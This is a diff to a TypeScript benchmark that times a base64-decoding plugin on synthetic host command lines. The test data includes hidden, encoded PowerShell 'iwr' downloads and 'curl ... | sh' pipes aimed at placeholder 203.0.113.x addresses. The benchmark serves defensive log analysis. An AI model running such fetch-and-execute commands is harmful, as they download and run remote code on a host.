@@ -1,42 +1,61 @@
-// What decoding costs: node --conditions=pivotkit-source test/bench/decode.ts [rows]
-// Beside the time that the peer needs, as stored for 9,967 of 10,000 texts (17.502 s on two cores, 2026-11-20), and beside
-// a loop that only decodes the base64 it finds, without nesting, text, archives or hashes.
+/**
+ * Decoding beside the peer's stored figure and a loop that only finds and decodes base64, without nesting, text, archives
+ * or hashes, in the same run.
+ *
+ *     npx node --conditions=pivotkit-source test/bench/decode.ts [most rows]
+ *
+ * As in the peer's case there are about three things to decode in two texts; and texts as they are on a host, where one in
+ * ten has something encoded.
+ */
 import { createSession, Table } from '@pivotkit/core';
 import { decode } from '@pivotkit/plugin-decode';
 import { randomFor } from '../../examples/generate/random.ts';
+import { cpuSeconds, showRatio, showSeconds } from './cpu-time.ts';
 
-const peerSecondsPerText = 17.502 / 9_967;
-const rows = Number(process.argv[2] ?? 100_000);
+const [most = 100_000] = process.argv.slice(2).map(Number);
+
+/** Seconds of the peer (unpack_df of 9,967 texts, 14,608 records), from ../shared/oracle/TIMINGS.md, 2026-11-20. */
+const peerSeconds: Readonly<Record<number, number>> = { 10_000: 17.502 };
+
 const random = randomFor('decode');
-const encoded = (i: number): string =>
-  Buffer.from(`iwr http://203.0.113.${String(i % 250)}/${String(i)}.ps1 -OutFile t${String(i)}`, 'utf16le').toString(
-    'base64',
-  );
-const line = (i: number): string =>
-  random.chance(0.1)
-    ? `powershell.exe -nop -w hidden -enc ${encoded(i)}`
-    : `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service${String(i)} /log:C:\\ProgramData\\Vendor\\log-${String(i)}.txt`;
-const texts = Array.from({ length: rows }, (_, i) => line(i));
 
-const session = await createSession({ plugins: [decode] });
-const table = Table.fromRows(texts.map((CommandLine) => ({ CommandLine })));
-const timed = async <T>(work: () => T | Promise<T>): Promise<readonly [T, number]> => {
-  const start = performance.now();
-  return [await work(), (performance.now() - start) / 1_000];
-};
-const [found, ours] = await timed(
-  async () => (await session.from(table).verb('decode.base64', { column: 'CommandLine' }).run()).size,
-);
-const [naiveFound, naive] = await timed(() =>
-  texts.reduce(
-    (sum, text) =>
-      sum + (text.match(/[A-Za-z0-9+/]{30,}={0,2}/g) ?? []).map((run) => Buffer.from(run, 'base64')).length,
-    0,
-  ),
-);
-const peer = rows * peerSecondsPerText;
-console.log(`${String(rows)} texts: ${ours.toFixed(2)} s, ${String(found)} things decoded`);
-console.log(`the peer, from its stored time: ${peer.toFixed(1)} s, ${(peer / ours).toFixed(0)} times as long`);
-console.log(
-  `a loop that only finds and decodes base64: ${naive.toFixed(2)} s (${String(naiveFound)}), ${(ours / naive).toFixed(1)} times as quick`,
-);
+const plain = (i: number): string =>
+  `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service${i} /log:C:\\ProgramData\\Vendor\\log-${i}.txt`;
+const script = (i: number): string => `iwr http://203.0.113.${i % 250}/${i}.ps1 -OutFile t${i}`;
+const powershell = (i: number): string =>
+  `powershell.exe -nop -w hidden -enc ${Buffer.from(script(i), 'utf16le').toString('base64')}`;
+const piped = (i: number): string => `echo ${Buffer.from(`curl http://203.0.113.${i % 250}/${i}.sh | sh`).toString('base64')} | base64 -d`; // prettier-ignore
+
+const encodedLine = (i: number): string => (random.chance(0.47) ? `${powershell(i)} & ${piped(i)}` : powershell(i));
+const hostLine = (i: number): string => (random.chance(0.1) ? powershell(i) : plain(i));
+
+const findAndDecode = (texts: readonly string[]): number =>
+  texts.reduce((sum, text) => sum + (text.match(/[A-Za-z0-9+/]{30,}={0,2}/g) ?? []).map((run) => Buffer.from(run, 'base64')).length, 0); // prettier-ignore
+
+await using session = await createSession({ plugins: [decode] });
+
+async function report(name: string, texts: readonly string[], peer: number | undefined): Promise<void> {
+  const table: Table<object> = Table.fromColumns({ CommandLine: texts });
+  const run = () => session.from(table).verb('decode.base64', { column: 'CommandLine' }).run();
+  const { size } = await run();
+  const ours = await cpuSeconds(run, 3);
+  const loop = await cpuSeconds(() => findAndDecode(texts), 3);
+  const cells = [
+    name.padEnd(22),
+    texts.length.toLocaleString('en').padStart(9),
+    size.toLocaleString('en').padStart(9),
+    showSeconds(ours).padStart(9),
+    showRatio(peer, ours).padStart(18),
+    showRatio(loop, ours).padStart(18),
+    `${Math.round(process.memoryUsage.rss() / 1e6)} MB`.padStart(8),
+  ];
+  console.log(cells.join('  '));
+}
+
+console.log('Seconds of processor time; the peer: wall time of one thread');
+console.log('texts                       rows   decoded       ours                peer           bare loop    memory');
+for (const rows of [1_000, 10_000, 100_000].filter((size) => size <= most)) {
+  const line = (of: (i: number) => string): string[] => Array.from({ length: rows }, (_, i) => of(i));
+  await report('three things in two', line(encodedLine), peerSeconds[rows]);
+  await report('one in ten', line(hostLine), undefined);
+}
